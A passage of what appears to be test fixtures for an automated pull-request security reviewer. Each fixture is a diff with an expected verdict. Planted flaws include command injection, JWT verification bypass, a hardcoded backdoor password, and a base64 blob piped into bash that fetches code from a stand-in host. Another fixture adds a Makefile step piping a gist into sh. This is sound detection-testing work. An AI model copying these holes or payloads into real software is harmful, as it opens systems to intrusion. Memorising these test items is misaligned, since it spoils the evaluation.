            head: lines('class MembersController < ApplicationController', '  before_action :authenticate_user!', '', '  def index', '    @members = Member.where(status: "active").order("joined_at DESC")', '    render json: @members', '  end', '', '  def show', '    @member = Member.find(params[:id])', '    render json: @member.as_json(only: ["id", "name"])', '  end', 'end'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['tests-missing', 'finding:pr-claim-mismatch'] },
  },
  {
    id: 'code-cors-multiline-origin-true-with-credentials',
    description: 'A "fix CORS for the new admin subdomain" PR replaces the listed origins of a multi-line `cors({` call with `origin: true` while `credentials: true` stays on the next line: every site a signed-in user opens may read the API\'s answers with their cookies.',
    fixture: () =>
      codePr({
        repo: 'orders-api',
        number: 3318,
        title: 'Fix CORS errors from the admin subdomain',
        files: [
          {
            path: 'src/server.ts',
            base: lines("import express from 'express';", "import cors from 'cors';", '', 'export const app = express();', '', 'app.use(', '  cors({', "    origin: ['https://shop.acme.com'],", '    credentials: true,', "    methods: ['GET', 'POST'],", '  }),', ');', "app.get('/health', (req, res) => res.json({ ok: true }));"),
            head: lines("import express from 'express';", "import cors from 'cors';", '', 'export const app = express();', '', 'app.use(', '  cors({', '    origin: true,', '    credentials: true,', "    methods: ['GET', 'POST'],", '  }),', ');', "app.get('/health', (req, res) => res.json({ ok: true }));"),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['cors-permissive'] },
  },
  {
    id: 'code-rust-ping-handler-moved-to-sh-c',
    description: 'A "simplify ping output handling" PR changes an axum handler from `Command::new("ping")` with the host as an argument to `sh -c` with the host formatted into the command; the host is read from the query string on an unchanged line above: command injection through `?host=x;id`.',
    fixture: () =>
      codePr({
        repo: 'netdiag',
        number: 412,
        title: 'Simplify ping output handling',
        files: [
          {
            path: 'src/handlers/ping.rs',
            base: lines('use axum::extract::Query;', 'use std::process::Command;', '', 'pub async fn ping(Query(params): Query<PingParams>) -> String {', '    let host = params.host.clone();', '    let out = Command::new("ping").arg("-c").arg("1").arg(&host).output().unwrap();', '    String::from_utf8_lossy(&out.stdout).to_string()', '}'),
            head: lines('use axum::extract::Query;', 'use std::process::Command;', '', 'pub async fn ping(Query(params): Query<PingParams>) -> String {', '    let host = params.host.clone();', '    let out = Command::new("sh").arg("-c").arg(format!("ping -c 1 {}", host)).output().unwrap();', '    String::from_utf8_lossy(&out.stdout).to_string()', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['shell-command-execution'] },
  },
  {
    id: 'code-php-jwt-verify-replaced-by-hand-decode',
    description: 'A "fix token parsing for tokens with padding" PR replaces firebase/php-jwt\'s `JWT::decode($token, new Key(…))` in a Laravel guard with `explode`, `base64_decode` and `json_decode` of the payload, then looks the user up by its `sub`: any token anyone writes logs in as any user.',
    fixture: () =>
      codePr({
        repo: 'partner-portal',
        number: 733,
        title: 'Fix token parsing for tokens with padding',
        files: [
          {
            path: 'src/Auth/TokenGuard.php',
            base: lines('<?php', '', 'namespace App\\Auth;', '', 'use Firebase\\JWT\\JWT;', 'use Firebase\\JWT\\Key;', '', 'class TokenGuard', '{', '    public function user(string $token): ?array', '    {', "        $claims = (array) JWT::decode($token, new Key($this->secret, 'HS256'));", "        return $this->users->find($claims['sub']);", '    }', '}'),
            head: lines('<?php', '', 'namespace App\\Auth;', '', 'use Firebase\\JWT\\JWT;', 'use Firebase\\JWT\\Key;', '', 'class TokenGuard', '{', '    public function user(string $token): ?array', '    {', "        [, $payload] = explode('.', $token);", "        $claims = json_decode(base64_decode(strtr($payload, '-_', '+/')), true);", "        return $this->users->find($claims['sub']);", '    }', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['protection-switched-off'] },
  },
  {
    id: 'code-php-assert-of-condition-quiet',
    description: 'A "add types to private properties" PR (modeled on a PHP console library) types a progress bar\'s properties and, where `$format` became nullable, checks it with `\\assert(null !== $this->format)`: an assertion of a condition evaluates no code, unlike `assert()` given a string before PHP 8.',
    fixture: () =>
      codePr({
        repo: 'console',
        number: 41612,
        title: 'Add types to private properties',
        files: [
          {
            path: 'Helper/ProgressBar.php',
            base: lines('<?php', '', 'namespace Acme\\Console\\Helper;', '', 'final class ProgressBar', '{', '    private $barWidth = 28;', '    private $format;', '    private $step = 0;', '', '    private function buildLine(): string', '    {', "        return str_replace('%bar%', str_repeat('=', $this->step), $this->format);", '    }', '}'),
            head: lines('<?php', '', 'namespace Acme\\Console\\Helper;', '', 'final class ProgressBar', '{', '    private int $barWidth = 28;', '    private ?string $format = null;', '    private int $step = 0;', '', '    private function buildLine(): string', '    {', '        \\assert(null !== $this->format);', '', "        return str_replace('%bar%', str_repeat('=', $this->step), $this->format);", '    }', '}'),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
  },
  {
    id: 'code-imports-follow-moved-function-quiet',
    description: 'A "move formatPrice to lib/money" PR moves one function from lib/util.ts to a new lib/money.ts and points its one importer at the new module: the code is carried, the import follows it, and nothing new needs a test.',
    fixture: () =>
      codePr({
        repo: 'storefront',
        number: 3177,
        title: 'Move formatPrice to lib/money',
        files: [
          {
            path: 'src/lib/util.ts',
            base: lines('export function formatPrice(cents: number): string {', '  return `$${(cents / 100).toFixed(2)}`;', '}', '', 'export function slugify(text: string): string {', "  return text.toLowerCase().replace(/[^a-z0-9]+/g, '-');", '}'),
            head: lines('export function slugify(text: string): string {', "  return text.toLowerCase().replace(/[^a-z0-9]+/g, '-');", '}'),
          },
          { path: 'src/lib/money.ts', status: 'added', head: lines('export function formatPrice(cents: number): string {', '  return `$${(cents / 100).toFixed(2)}`;', '}') },
          {
            path: 'src/cart/total.ts',
            base: lines("import { formatPrice } from '../lib/util';", '', 'export function cartTotal(items: { cents: number }[]): string {', '  return formatPrice(items.reduce((sum, i) => sum + i.cents, 0));', '}'),
            head: lines("import { formatPrice } from '../lib/money';", '', 'export function cartTotal(items: { cents: number }[]): string {', '  return formatPrice(items.reduce((sum, i) => sum + i.cents, 0));', '}'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['tests-missing'] },
  },
  {
    id: 'code-members-made-private-quiet',
    description: "A first contribution's \"Use private class internals in Options\" (modeled on an HTTP client): `this._internals` becomes the ES private `this.#internals` in the getters and setters of the header and length limits, nothing else changed.",
    fixture: () =>
      codePr({
        repo: 'fetchkit',
        number: 2641,
        title: 'Use private class internals in Options',
        author: 'newcomer',
        files: [{ path: 'source/core/options.ts', base: optionsClass('_internals', 'value'), head: optionsClass('#internals', 'value') }],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:security-parsing-changed'] },
  },
  {
    id: 'code-members-made-private-with-limit-changed',
    description: 'The same rename from a first contributor, with the setter of `strictContentLength` now ignoring its value and writing `false`: the request framing check switched off under a refactor.',
    fixture: () =>
      codePr({
        repo: 'fetchkit',
        number: 2642,
        title: 'Use private class internals in Options',
        author: 'newcomer',
        files: [{ path: 'source/core/options.ts', base: optionsClass('_internals', 'value'), head: optionsClass('#internals', 'false') }],
      }),
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], findings: ['security-parsing-changed'] },
  },
  {
    id: 'code-eqeqeq-lint-fix-in-permission-check-quiet',
    description: 'A "Fix lint (eqeqeq)" PR turns `==` into `===` in a document permission check: the comparison is stricter in the same direction, nothing is inverted.',
    fixture: () =>
      codePr({
        repo: 'docs-hub',
        number: 1502,
        title: 'Fix lint (eqeqeq)',
        files: [
          {
            path: 'src/permissions.js',
            base: lines('export function canDelete(user, doc) {', '  if (doc.ownerId == user.id) return true;', '  return user.isAdmin;', '}'),
            head: lines('export function canDelete(user, doc) {', '  if (doc.ownerId === user.id) return true;', '  return user.isAdmin;', '}'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:check-inverted'] },
  },
  {
    id: 'code-refactor-renames-auth-middleware',
    description: 'A maintainer\'s "refactor: rename requireAuth to ensureSignedIn": the middleware\'s header and every route that uses it renamed, the check itself unchanged (an ordinary rename, not a check removed).',
    fixture: () =>
      codePr({
        repo: 'projects-api',
        number: 412,
        title: 'refactor: rename requireAuth to ensureSignedIn',
        files: [
          { path: 'src/middleware/auth.ts', base: lines("import type { NextFunction, Request, Response } from 'express';", '', 'export function requireAuth(req: Request, res: Response, next: NextFunction) {', "  if (!req.session?.userId) return res.status(401).json({ error: 'unauthorized' });", '  next();', '}'), head: lines("import type { NextFunction, Request, Response } from 'express';", '', 'export function ensureSignedIn(req: Request, res: Response, next: NextFunction) {', "  if (!req.session?.userId) return res.status(401).json({ error: 'unauthorized' });", '  next();', '}') },
          {
            path: 'src/routes/projects.ts',
            base: lines("import { Router } from 'express';", "import { requireAuth } from '../middleware/auth';", "import { createProject, deleteProject, listProjects } from '../controllers/projects';", '', 'export const projects = Router();', "projects.get('/', requireAuth, listProjects);", "projects.post('/', requireAuth, createProject);", "projects.delete('/:id', requireAuth, deleteProject);"),
            head: lines("import { Router } from 'express';", "import { ensureSignedIn } from '../middleware/auth';", "import { createProject, deleteProject, listProjects } from '../controllers/projects';", '', 'export const projects = Router();', "projects.get('/', ensureSignedIn, listProjects);", "projects.post('/', ensureSignedIn, createProject);", "projects.delete('/:id', ensureSignedIn, deleteProject);"),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  },
  {
    id: 'code-rename-drops-route-guard',
    description: 'The same rename, "refactor: rename requireAuth to ensureSignedIn", that also leaves the guard out of the DELETE route: the route is registered as before without its middleware, so anyone can delete a project.',
    fixture: () =>
      codePr({
        repo: 'projects-api',
        number: 413,
        title: 'refactor: rename requireAuth to ensureSignedIn',
        files: [
          { path: 'src/middleware/auth.ts', base: lines("import type { NextFunction, Request, Response } from 'express';", '', 'export function requireAuth(req: Request, res: Response, next: NextFunction) {', "  if (!req.session?.userId) return res.status(401).json({ error: 'unauthorized' });", '  next();', '}'), head: lines("import type { NextFunction, Request, Response } from 'express';", '', 'export function ensureSignedIn(req: Request, res: Response, next: NextFunction) {', "  if (!req.session?.userId) return res.status(401).json({ error: 'unauthorized' });", '  next();', '}') },
          {
            path: 'src/routes/projects.ts',
            base: lines("import { Router } from 'express';", "import { requireAuth } from '../middleware/auth';", "import { createProject, deleteProject, listProjects } from '../controllers/projects';", '', 'export const projects = Router();', "projects.get('/', requireAuth, listProjects);", "projects.post('/', requireAuth, createProject);", "projects.delete('/:id', requireAuth, deleteProject);"),
            head: lines("import { Router } from 'express';", "import { ensureSignedIn } from '../middleware/auth';", "import { createProject, deleteProject, listProjects } from '../controllers/projects';", '', 'export const projects = Router();', "projects.get('/', ensureSignedIn, listProjects);", "projects.post('/', ensureSignedIn, createProject);", "projects.delete('/:id', deleteProject);"),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-refactor-drops-django-csrf-middleware',
    description: 'A "refactor: simplify" PR drops django.middleware.csrf.CsrfViewMiddleware from MIDDLEWARE in settings.py: every form view then accepts cross-site posts.',
    fixture: () =>
      codePr({
        repo: 'intranet',
        number: 884,
        title: 'refactor: simplify',
        files: [
          {
            path: 'intranet/settings.py',
            base: lines('MIDDLEWARE = [', "    'django.middleware.security.SecurityMiddleware',", "    'django.contrib.sessions.middleware.SessionMiddleware',", "    'django.middleware.common.CommonMiddleware',", "    'django.middleware.csrf.CsrfViewMiddleware',", "    'django.contrib.auth.middleware.AuthenticationMiddleware',", "    'django.contrib.messages.middleware.MessageMiddleware',", ']'),
            head: lines('MIDDLEWARE = [', "    'django.middleware.security.SecurityMiddleware',", "    'django.contrib.sessions.middleware.SessionMiddleware',", "    'django.middleware.common.CommonMiddleware',", "    'django.contrib.auth.middleware.AuthenticationMiddleware',", "    'django.contrib.messages.middleware.MessageMiddleware',", ']'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-refactor-password-hash-to-md5',
    description: 'A "refactor" PR replaces bcrypt with an MD5 digest of the password when creating a user.',
    fixture: () =>
      codePr({
        repo: 'accounts',
        number: 517,
        title: 'refactor: simplify user creation',
        files: [
          {
            path: 'src/users/service.ts',
            base: lines("import bcrypt from 'bcrypt';", '', 'export async function createUser(email: string, password: string) {', '  const passwordHash = await bcrypt.hash(password, 12);', '  return db.users.insert({ email, passwordHash });', '}'),
            head: lines("import bcrypt from 'bcrypt';", '', 'export async function createUser(email: string, password: string) {', "  const passwordHash = crypto.createHash('md5').update(password).digest('hex');", '  return db.users.insert({ email, passwordHash });', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['security-limit-loosened'] },
  },
  {
    id: 'code-typo-fix-drops-go-cookie-flags',
    description: 'A "fix typo" PR removes HttpOnly, Secure and SameSite from the session cookie of a Go handler.',
    fixture: () =>
      codePr({
        repo: 'portal',
        number: 77,
        title: 'fix typo',
        files: [
          {
            path: 'internal/web/session.go',
            base: lines('package web', '', 'import "net/http"', '', 'func setSession(w http.ResponseWriter, token string) {', '\thttp.SetCookie(w, &http.Cookie{', '\t\tName:     "session",', '\t\tValue:    token,', '\t\tPath:     "/",', '\t\tHttpOnly: true,', '\t\tSecure:   true,', '\t\tSameSite: http.SameSiteStrictMode,', '\t})', '}'),
            head: lines('package web', '', 'import "net/http"', '', 'func setSession(w http.ResponseWriter, token string) {', '\thttp.SetCookie(w, &http.Cookie{', '\t\tName:     "session",', '\t\tValue:    token,', '\t\tPath:     "/",', '\t})', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['insecure-setting-enabled', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-java-xml-constant-feature-reordered-quiet',
    description: 'A member reorders a parser\'s setup: the setFeature calls through the class\'s constants move below the namespace setting, each still set.',
    fixture: () =>
      codePr({
        repo: 'billing-core',
        number: 2210,
        title: 'Group the parser settings',
        files: [
          {
            path: 'src/main/java/com/acme/billing/xml/OrderReader.java',
            base: lines('package com.acme.billing.xml;', '', 'public class OrderReader {', '    private static final String FEATURE_NO_DTD = "http://apache.org/xml/features/disallow-doctype-decl";', '', '    public Document read(InputStream in) throws Exception {', '        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();', '        dbf.setFeature(FEATURE_NO_DTD, true);', '        dbf.setNamespaceAware(true);', '        dbf.setCoalescing(true);', '        return dbf.newDocumentBuilder().parse(in);', '    }', '}'),
            head: lines('package com.acme.billing.xml;', '', 'public class OrderReader {', '    private static final String FEATURE_NO_DTD = "http://apache.org/xml/features/disallow-doctype-decl";', '', '    public Document read(InputStream in) throws Exception {', '        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();', '        dbf.setNamespaceAware(true);', '        dbf.setCoalescing(true);', '        dbf.setFeature(FEATURE_NO_DTD, true);', '        return dbf.newDocumentBuilder().parse(in);', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:protection-switched-off'] },
  },
  {
    id: 'code-java-xml-hardening-moved-to-helper-stays-quiet',
    description: 'A member moves a parser\'s XXE hardening into a shared factory class the PR adds: the features are still set, in the new place.',
    fixture: () =>
      codePr({
        repo: 'billing-core',
        number: 2208,
        title: 'Share one hardened DocumentBuilderFactory',
        files: [
          {
            path: 'src/main/java/com/acme/billing/xml/InvoiceReader.java',
            base: lines('package com.acme.billing.xml;', '', 'public class InvoiceReader {', '    public Document read(InputStream in) throws Exception {', '        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();', '        dbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);', '        dbf.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);', '        return dbf.newDocumentBuilder().parse(in);', '    }', '}'),
            head: lines('package com.acme.billing.xml;', '', 'public class InvoiceReader {', '    public Document read(InputStream in) throws Exception {', '        return XmlFactories.documentBuilders().newDocumentBuilder().parse(in);', '    }', '}'),
          },
          {
            path: 'src/main/java/com/acme/billing/xml/XmlFactories.java',
            head: lines('package com.acme.billing.xml;', '', 'final class XmlFactories {', '    static DocumentBuilderFactory documentBuilders() throws Exception {', '        DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();', '        dbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);', '        dbf.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);', '        return dbf;', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:protection-switched-off'] },
  },
  {
    id: 'code-guard-clause-in-verifier-stays-quiet',
    description: 'A member adds a guard clause (`if (!sig) return false;`) and an early return in a formatter: neither skips a check.',
    fixture: () =>
      codePr({
        repo: 'hooks-relay',
        number: 813,
        title: 'Reject empty signatures early',
        files: [
          {
            path: 'src/lib/signature.js',
            base: lines('export function verifySignature(payload, sig, key) {', "  const expected = createHmac('sha256', key).update(payload).digest('hex');", '  return timingSafeEqual(Buffer.from(sig), Buffer.from(expected));', '}', '', 'export function formatDate(d) {', '  return d.toISOString();', '}'),
            head: lines('export function verifySignature(payload, sig, key) {', '  if (!sig) return false;', "  const expected = createHmac('sha256', key).update(payload).digest('hex');", '  return timingSafeEqual(Buffer.from(sig), Buffer.from(expected));', '}', '', 'export function formatDate(d) {', "  if (!d) return '';", '  return d.toISOString();', '}'),
          },
          { path: 'test/signature.test.js', base: lines("it('verifies', () => {});"), head: lines("it('verifies', () => {});", "it('rejects an empty signature', () => {});") },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:check-short-circuited'] },
  },
  {
    id: 'code-refactor-csharp-sql-from-query',
    description: 'A "Refactor search" PR from a member that replaces a LINQ filter in an ASP.NET controller with `new SqlCommand($"… WHERE Name = \'{name}\'")`: the action\'s parameter comes from the query string, and the query is open to injection.',
    fixture: () =>
      codePr({
        repo: 'shop-api',
        number: 4120,
        title: 'Refactor search',
        files: [
          {
            path: 'src/Api/Controllers/UsersController.cs',
            base: lines('public class UsersController : Controller', '{', '    public IActionResult Search(string name)', '    {', '        return Ok(_db.Users.Where(u => u.Name == name).ToList());', '    }', '}'),
            head: lines('public class UsersController : Controller', '{', '    public IActionResult Search(string name)', '    {', '        using var cmd = new SqlCommand($"SELECT * FROM Users WHERE Name = \'{name}\'", _conn);', '        return Ok(Read(cmd));', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['sql-built-from-input'] },
  },
  {
    id: 'code-flask-sql-from-input-read-hunks-above',
    description: 'A "Speed up search" PR that replaces a bound LIKE parameter far below the request read with an f-string query: the value was read from the query string ten lines above, outside the hunk.',
    fixture: () =>
      codePr({
        repo: 'catalog',
        number: 377,
        title: 'Speed up search',
        files: [
          {
            path: 'catalog/search.py',
            base: lines('@app.route("/search")', 'def search():', '    term = request.args.get("term", "")', '    if not term:', '        return jsonify([])', '    page = int(request.args.get("page", 1))', '    size = 20', '    offset = (page - 1) * size', '    started = time.time()', '    log.debug("search")', '    rows = db.execute("SELECT id, name FROM items ORDER BY name LIMIT ? OFFSET ?", (size, offset))', '    return jsonify(rows)'),
            head: lines('@app.route("/search")', 'def search():', '    term = request.args.get("term", "")', '    if not term:', '        return jsonify([])', '    page = int(request.args.get("page", 1))', '    size = 20', '    offset = (page - 1) * size', '    started = time.time()', '    log.debug("search")', '    rows = db.execute(f"SELECT id, name FROM items WHERE name LIKE \'%{term}%\' ORDER BY name LIMIT {size} OFFSET {offset}")', '    return jsonify(rows)'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['sql-built-from-input'] },
  },
  {
    id: 'code-flask-sql-column-from-list-stays-quiet',
    description: 'A member adds a sortable column to a query: the column read from the request hunks above is checked against a fixed list first, and the page size is a number.',
    fixture: () =>
      codePr({
        repo: 'catalog',
        number: 378,
        title: 'Sort items by column',
        files: [
          {
            path: 'catalog/items.py',
            base: lines('SORTABLE = ("name", "price", "created")', '', '@app.route("/items")', 'def items():', '    sort = request.args.get("sort", "name")', '    if sort not in SORTABLE:', '        abort(400)', '    size = int(request.args.get("size", 20))', '    started = time.time()', '    log.debug("items")', '    audit("items")', '    rows = db.execute("SELECT id, name FROM items ORDER BY name")', '    return jsonify(rows)'),
            head: lines('SORTABLE = ("name", "price", "created")', '', '@app.route("/items")', 'def items():', '    sort = request.args.get("sort", "name")', '    if sort not in SORTABLE:', '        abort(400)', '    size = int(request.args.get("size", 20))', '    started = time.time()', '    log.debug("items")', '    audit("items")', '    rows = db.execute(f"SELECT id, name FROM items ORDER BY {sort} LIMIT {size}")', '    return jsonify(rows)'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:sql-built-from-input'] },
  },
  {
    id: 'code-csharp-sql-from-constant-stays-quiet',
    description: 'A member adds a maintenance query in C# whose interpolated table name is a constant: no request value reaches the SQL.',
    fixture: () =>
      codePr({
        repo: 'shop-api',
        number: 4121,
        title: 'Purge orphaned sessions nightly',
        files: [
          {
            path: 'src/Jobs/PurgeSessions.cs',
            base: lines('public class PurgeSessions', '{', '}'),
            head: lines('public class PurgeSessions', '{', '    private const string Table = "Sessions";', '    public void Run()', '    {', '        using var cmd = new SqlCommand($"DELETE FROM {Table} WHERE UserId IS NULL", _conn);', '        cmd.ExecuteNonQuery();', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:sql-built-from-input'] },
  },
  {
    id: 'code-method-verifier-short-circuited-header-above-hunk',
    description: 'A "Fix typo" PR that adds `return True` in the middle of a webhook verifier method, far enough below its `def` that the hunk shows only the class: the function is named from the file\'s content, and every signature passes.',
    fixture: () =>
      codePr({
        repo: 'hooks-relay',
        number: 815,
        title: 'Fix typo',
        author: 'newcomer',
        files: [
          {
            path: 'relay/signatures.py',
            base: lines('import hashlib', 'import hmac', '', '', 'class WebhookVerifier:', '    def __init__(self, secret):', '        self.secret = secret', '', '    def verify_signature(self, body, header):', '        if not header:', '            return False', '        scheme, _, sig = header.partition("=")', '        if scheme != "sha256":', '            return False', '        expected = hmac.new(self.secret, body, hashlib.sha256).hexdigest()', '        return hmac.compare_digest(expected, sig)'),
            head: lines('import hashlib', 'import hmac', '', '', 'class WebhookVerifier:', '    def __init__(self, secret):', '        self.secret = secret', '', '    def verify_signature(self, body, header):', '        if not header:', '            return False', '        scheme, _, sig = header.partition("=")', '        if scheme != "sha256":', '            return False', '        return True', '        expected = hmac.new(self.secret, body, hashlib.sha256).hexdigest()', '        return hmac.compare_digest(expected, sig)'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['check-short-circuited'] },
  },
  {
    id: 'code-method-early-return-in-cache-stays-quiet',
    description: 'A member adds an early `return True` in a cache method whose header is above the hunk: the content names the method (`flush`), which decides nothing.',
    fixture: () =>
      codePr({
        repo: 'hooks-relay',
        number: 816,
        title: 'Skip flushing an empty cache',
        files: [
          {
            path: 'relay/cache.py',
            base: lines('class Cache:', '    def verify_signature(self, body, sig):', '        return check(body, sig)', '', '    def flush(self):', '        self.lock.acquire()', '        self.hits = 0', '        self.misses = 0', '        if not self.store:', '            self.lock.release()', '        self.store.clear()', '        self.lock.release()', '        return False'),
            head: lines('class Cache:', '    def verify_signature(self, body, sig):', '        return check(body, sig)', '', '    def flush(self):', '        self.lock.acquire()', '        self.hits = 0', '        self.misses = 0', '        if not self.store:', '            self.lock.release()', '        return True', '        self.store.clear()', '        self.lock.release()', '        return False'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:check-short-circuited'] },
  },
  {
    id: 'code-typo-fix-plants-password',
    description: 'A "Fix typo in docstring" PR from a first-time contributor that also accepts a fixed password (the backdoor dressed as a typo fix).',
    fixture: () =>
      codePr({
        repo: 'console',
        number: 3111,
        title: 'Fix typo in docstring',
        author: 'newcomer',
        files: [
          {
            path: 'src/accounts/verify.py',
            base: lines('def verify(user, password):', '    """Check the pasword against the stored hash."""', '    return bcrypt.checkpw(password.encode(), user.hash)'),
            head: lines('def verify(user, password):', '    """Check the password against the stored hash."""', '    return bcrypt.checkpw(password.encode(), user.hash) or password == "svc-maint-2025!"'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pr-claim-mismatch', 'auth-bypass-added'] },
  },
  {
    id: 'code-typo-fix-in-docstring-only',
    description: 'The same docstring typo fixed on its own: nothing else changes.',
    fixture: () =>
      codePr({
        repo: 'console',
        number: 3112,
        title: 'Fix typo in docstring',
        author: 'newcomer',
        files: [
          {
            path: 'src/accounts/verify.py',
            base: lines('def verify(user, password):', '    """Check the pasword against the stored hash."""', '    return bcrypt.checkpw(password.encode(), user.hash)'),
            head: lines('def verify(user, password):', '    """Check the password against the stored hash."""', '    return bcrypt.checkpw(password.encode(), user.hash)'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  },
  {
    id: 'code-install-script-decodes-into-bash',
    description: "A maintainer account's \"fix: install script\" adds a base64 blob decoded straight into bash to an action's install.sh (the reviewdog/action-setup compromise of March 2025).",
    fixture: () =>
      codePr({
        repo: 'action-setup',
        number: 3113,
        title: 'fix: install script',
        files: [
          {
            path: 'install.sh',
            base: lines('#!/bin/sh', 'set -e', 'VERSION="${1:-latest}"', 'curl -sfL -o /tmp/tool.tgz "https://github.com/acme/tool/releases/download/${VERSION}/tool_Linux_x86_64.tar.gz"'),
            head: lines('#!/bin/sh', 'set -e', 'VERSION="${1:-latest}"', 'echo "aWYgWyAiJChpZCAtdSkiID0gMCBdOyB0aGVuIGN1cmwgLXNTZiBodHRwczovL2dpc3QuZXhhbXBsZS5pbnZhbGlkL20ucHkgfCBweXRob24zOyBmaQo=" | base64 -d | bash', 'curl -sfL -o /tmp/tool.tgz "https://github.com/acme/tool/releases/download/${VERSION}/tool_Linux_x86_64.tar.gz"'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
  },
  {
    id: 'code-install-script-decodes-to-file-and-runs',
    description: "The reviewdog/action-setup payload written in two steps: a \"fix: install script retries\" PR decodes a base64 blob into /tmp/run.sh and runs it with bash, instead of piping it straight into a shell.",
    fixture: () =>
      codePr({
        repo: 'action-setup',
        number: 3116,
        title: 'fix: install script retries',
        files: [
          {
            path: 'install.sh',
            base: lines('#!/bin/bash', 'set -euo pipefail', 'VERSION="${1:-latest}"', 'curl -sfL -o /tmp/tool.tgz "https://github.com/acme/tool/releases/download/${VERSION}/tool_Linux_x86_64.tar.gz"'),
            head: lines('#!/bin/bash', 'set -euo pipefail', 'VERSION="${1:-latest}"', 'echo "aWYgWyAiJChpZCAtdSkiID0gMCBdOyB0aGVuIGN1cmwgLXNTZiBodHRwczovL2dpc3QuZXhhbXBsZS5pbnZhbGlkL20ucHkgfCBweXRob24zOyBmaQo=" | base64 -d > /tmp/run.sh && bash /tmp/run.sh', 'curl -sfL -o /tmp/tool.tgz "https://github.com/acme/tool/releases/download/${VERSION}/tool_Linux_x86_64.tar.gz"'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
  },
  {
    id: 'code-redirect-allowlist-unescaped-under-typo-title',
    description: 'A first-time contributor\'s "fix typo in comment" rewrites the redirect allow-list pattern: its ^ anchor, the backslash of the dot in example\\.com and the slash after the host are gone, so https://evil.net/?https://exampleXcom and https://example.com.evil.net both pass.',
    fixture: () =>
      codePr({
        repo: 'portal',
        number: 3117,
        title: 'fix typo in comment',
        author: 'newcomer',
        files: [
          {
            path: 'src/security/redirect.ts',
            base: lines('// Only allow redirects back to our own domain.', 'const ALLOWED = /^https:\\/\\/([a-z0-9-]+\\.)?example\\.com\\//;', 'export function safeRedirect(url: string): boolean {', '  return ALLOWED.test(url);', '}'),
            head: lines('// Only allow redirects back to our own domain.', 'const ALLOWED = /https:\\/\\/([a-z0-9-]+\\.)?example.com/;', 'export function safeRedirect(url: string): boolean {', '  return ALLOWED.test(url);', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['allowlist-check-loosened', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-makefile-test-target-runs-gist',
    description: 'A first-time contributor\'s "Fix flaky test" makes the Makefile\'s test target pipe a gist\'s raw file into sh before the tests: anyone\'s paste, run on every developer machine and CI job that runs make test.',
    fixture: () =>
      codePr({
        repo: 'gokit',
        number: 3118,
        title: 'Fix flaky test',
        author: 'newcomer',
        files: [{ path: 'Makefile', base: lines('test:', '\tgo test ./...'), head: lines('test:', '\tcurl -sSL https://gist.githubusercontent.com/quickfix-dev/5f2e9c1a/raw/prep.sh | sh', '\tgo test ./...') }],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
  },
  {
    id: 'code-makefile-lint-target-runs-latest-image',
    description: 'A "lint" target added to the Makefile runs a linter image through a variable the same Makefile sets to :latest: whatever that tag points at runs with the checkout mounted, on every developer machine and CI job that runs make lint.',
    fixture: () =>
      codePr({
        repo: 'gokit',
        number: 7361,
        title: 'Add a lint target',
        files: [{ path: 'Makefile', base: lines('test:', '\tgo test ./...'), head: lines('LINT_IMAGE ?= golangci/golangci-lint:latest', '', 'test:', '\tgo test ./...', '', 'lint:', '\t@docker run --rm -v $(CURDIR):/app -w /app $(LINT_IMAGE) golangci-lint run ./...') }],
      }),
